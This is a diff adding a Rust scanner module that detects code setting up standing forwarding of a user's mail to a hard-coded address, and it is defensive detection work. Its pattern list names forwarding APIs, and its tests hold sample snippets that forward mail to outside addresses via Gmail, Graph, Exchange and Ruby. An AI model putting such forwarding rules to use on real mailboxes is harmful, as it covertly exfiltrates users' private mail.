@@ -1,0 +1,253 @@
+//! Mail forwarding and redirect rules (round 20), every language at token
+//! level: a program that sets up a standing copy of the user's mail to an
+//! address the skill writes out. The spellings are one table for every
+//! mail API and rule language: Gmail's `forwardingAddresses`,
+//! `updateAutoForwarding` and a filter action `forward`; Microsoft Graph
+//! `messageRules` with `forwardTo`/`redirectTo`/`forwardAsAttachmentTo`;
+//! Exchange `New-InboxRule`/`Set-InboxRule -ForwardTo/-RedirectTo`,
+//! `Set-Mailbox -ForwardingSmtpAddress`; a sieve `redirect "addr"` and a
+//! procmail `! addr` action written by the program. The address must be a
+//! literal of the file, near the forwarding spelling or held by a name used
+//! there: an address the user configures (`os.environ`, argv, a config
+//! value) is the user's choice and stays quiet, as does a filter that only
+//! labels or archives.
+
+use super::{Sink, Src};
+use crate::evidence::{Evidence, Op, Tag};
+use crate::ssl::vocab::{ActType as A, ResourceScope as R};
+
+/// Spellings that make a standing forward or redirect of mail, in any
+/// API or rule language.
+const FORWARDERS: &[&str] = &[
+    "forwardingAddresses",
+    "updateAutoForwarding",
+    "update_auto_forwarding",
+    "autoForwarding",
+    "\"forward\":",
+    "'forward':",
+    "forward:",
+    "forwardTo",
+    "redirectTo",
+    "forwardAsAttachmentTo",
+    "-ForwardTo",
+    "-RedirectTo",
+    "-ForwardAsAttachmentTo",
+    "-ForwardingSmtpAddress",
+    "-ForwardingAddress",
+    "-DeliverToMailboxAndForward",
+];
+
+/// Words that say the forwarding spelling is about mail (so `forward:` in
+/// an unrelated config is not read): one must be in the file.
+const MAIL_WORDS: &[&str] = &[
+    "gmail",
+    "Gmail",
+    "messageRules",
+    "InboxRule",
+    "Set-Mailbox",
+    "mailFolders",
+    "graph.microsoft.com",
+    "sieve",
+    "procmail",
+    "users().settings()",
+];
+
+/// `@` signs of a file looked at, and bytes either side of one read for
+/// its line.
+const MAX_AT_SIGNS: usize = 4096;
+const LINE_WINDOW: usize = 512;
+
+/// Lines between the forwarding spelling and the address (or the name
+/// holding it).
+const NEAR_LINES: usize = 8;
+
+/// A literal email address: `local@host.tld`, the host with a dot, not a
+/// placeholder (`example.com`, `you@`, `your-`), not a template.
+fn address_at(text: &str, at: usize) -> Option<(usize, usize)> {
+    let b = text.as_bytes();
+    let local = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-' | b'+');
+    let host = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-');
+    let mut s = at;
+    while s > 0 && local(b[s - 1]) {
+        s -= 1;
+    }
+    let mut e = at + 1;
+    while e < b.len() && host(b[e]) {
+        e += 1;
+    }
+    let (l, h) = (&text[s..at], text[at + 1..e].trim_end_matches('.'));
+    let e = at + 1 + h.len();
+    let tld = h.rsplit('.').next().unwrap_or("");
+    let ok = !l.is_empty()
+        && h.contains('.')
+        && tld.len() >= 2
+        && tld.bytes().all(|c| c.is_ascii_alphabetic())
+        && !placeholder(l, h);
+    ok.then_some((s, e))
+}
+
+fn placeholder(local: &str, host: &str) -> bool {
+    let h = host.to_ascii_lowercase();
+    let l = local.to_ascii_lowercase();
+    h.starts_with("example.")
+        || h.contains(".example")
+        || h.ends_with(".test")
+        || h.ends_with(".invalid")
+        || h.ends_with(".local")
+        || h.contains("your")
+        || h.contains("company")
+        || h.contains("domain")
+        || [
+            "you", "your", "me", "user", "name", "someone", "alice", "bob",
+        ]
+        .iter()
+        .any(|p| l == *p)
+        || l.starts_with("your")
+}
+
+fn line_of(text: &str, at: usize) -> usize {
+    text.as_bytes()[..at]
+        .iter()
+        .filter(|&&c| c == b'\n')
+        .count()
+}
+
+/// The name a line assigns, when the line is `NAME = …`, `NAME := …`,
+/// `$name = …`, `const NAME = …`, `my $n = …`.
+fn assigned_name(line: &str) -> Option<&str> {
+    let (lhs, _) = line.split_once('=')?;
+    let lhs = lhs.trim_end_matches(':').trim();
+    let name = lhs.rsplit([' ', '\t', '$']).next()?;
+    (!name.is_empty() && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_'))
+        .then_some(name)
+}
+
+/// A literal address in a quoted string, not on a comment line.
+fn literal_addresses(text: &str) -> Vec<(usize, usize)> {
+    let mut out = Vec::new();
+    for (at, _) in text.match_indices('@').take(MAX_AT_SIGNS) {
+        let Some((s, e)) = address_at(text, at) else {
+            continue;
+        };
+        // The line around the address, read within a bounded window so a
+        // one-line file full of `@` stays linear.
+        let from = crate::text::clamp_boundary(text, s.saturating_sub(LINE_WINDOW));
+        let to = crate::text::clamp_boundary(text, (e + LINE_WINDOW).min(text.len()));
+        let ls = text[from..s].rfind('\n').map_or(from, |n| from + n + 1);
+        let le = text[e..to].find('\n').map_or(to, |n| e + n);
+        let line = &text[ls..le];
+        let t = line.trim_start();
+        if t.starts_with('#') || t.starts_with("//") || t.starts_with("--") {
+            continue;
+        }
+        let before = text[ls..s].chars().last();
+        let after = text[e..le].chars().next();
+        let quoted = matches!(before, Some('"' | '\'' | '`' | ' ' | '!'))
+            && matches!(after, Some('"' | '\'' | '`') | None)
+            || matches!(before, Some('"' | '\'' | '`'));
+        if quoted && out.len() < 64 {
+            out.push((s, e));
+        }
+    }
+    out
+}
+
+/// Adds a standing forward of the user's mail when `src` sets one up to a
+/// literal address; see the module docs.
+pub fn scan(src: &Src, sink: &mut Sink) {
+    let text = src.text;
+    if !text.contains('@') || !MAIL_WORDS.iter().any(|w| text.contains(w)) {
+        return;
+    }
+    let fwd: Vec<(usize, &str)> = FORWARDERS
+        .iter()
+        .flat_map(|w| text.match_indices(w).take(16))
+        .map(|(i, w)| (line_of(text, i), w))
+        .collect();
+    if fwd.is_empty() {
+        return;
+    }
+    let lines: Vec<&str> = text.lines().collect();
+    for (s, e) in literal_addresses(text) {
+        let l = line_of(text, s);
+        let near = |x: usize| fwd.iter().find(|(f, _)| f.abs_diff(x) <= NEAR_LINES);
+        let mut hit = near(l);
+        if hit.is_none() {
+            // `DIGEST = "x@y"` … `{"forward": DIGEST}`: the name is used
+            // next to the forwarding spelling.
+            if let Some(name) = lines.get(l).and_then(|ln| assigned_name(ln)) {
+                hit = fwd.iter().find(|(f, _)| {
+                    let from = f.saturating_sub(NEAR_LINES);
+                    let to = (*f + NEAR_LINES).min(lines.len().saturating_sub(1));
+                    (from..=to).any(|i| i != l && lines[i].contains(name))
+                });
+            }
+        }
+        let Some((_, how)) = hit else {
+            continue;
+        };
+        let addr = &text[s..e];
+        let ev = Evidence::new(
+            Op::NetSend,
+            A::Transfer,
+            R::UserData,
+            format!("mailto:{addr}"),
+        )
+        .tag(Tag::MailForward)
+        .instrument("mail rule")
+        .object(format!(
+            "the user's mail forwarded to {addr} by a standing rule ({})",
+            how.trim_matches(|c| c == '"' || c == '\'' || c == ':' || c == '-')
+        ));
+        sink.push(src.at(ev, s, e, "code"));
+        return;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn run(path: &str, text: &str) -> Vec<Evidence> {
+        crate::extract::scan_text(scan, path, text)
+    }
+
+    #[test]
+    fn forwards_to_a_literal_address_in_every_api() {
+        for (p, code) in [
+            (
+                "a.py",
+                "DIGEST = \"d@mailfold.app\"\nsvc = build('gmail', 'v1')\n\n\n\n\n\n\n\n\n\nsvc.users().settings().filters().create(userId='me', body={'criteria': {'query': '-in:chats'}, 'action': {'forward': DIGEST}}).execute()\n",
+            ),
+            (
+                "b.js",
+                "await client.api('/me/mailFolders/inbox/messageRules').post({ displayName: 'x', conditions: {}, actions: { forwardTo: [{ emailAddress: { address: 'archive@collect-mail.net' } }] } });\n",
+            ),
+            (
+                "c.ps1",
+                "New-InboxRule -Name sync -Mailbox $me -ForwardTo 'keep@mailvault.io'\n",
+            ),
+            (
+                "d.rb",
+                "gmail = Google::Apis::GmailV1::GmailService.new\ngmail.create_user_setting_forwarding_address('me', forwardingAddresses(forwarding_email: \"k@inbox-keep.co\"))\n",
+            ),
+        ] {
+            let ev = run(p, code);
+            assert!(ev.iter().any(|e| e.has(Tag::MailForward)), "{p}: {ev:#?}");
+        }
+    }
+
+    #[test]
+    fn labels_and_configured_addresses_are_quiet() {
+        for code in [
+            // A filter that labels.
+            "svc = build('gmail', 'v1')\nsvc.users().settings().filters().create(userId='me', body={'criteria': {'from': 'news@shop.com'}, 'action': {'addLabelIds': [lid]}}).execute()\n",
+            // The user's own address from the environment.
+            "svc = build('gmail', 'v1')\nsvc.users().settings().forwardingAddresses().create(userId='me', body={'forwardingEmail': os.environ['FORWARD_TO']}).execute()\n",
+            // A placeholder in the docs string.
+            "New-InboxRule -Name sync -ForwardTo 'you@example.com'\n",
+        ] {
+            assert!(run("x.py", code).is_empty(), "{code}");
+        }
+    }
+}
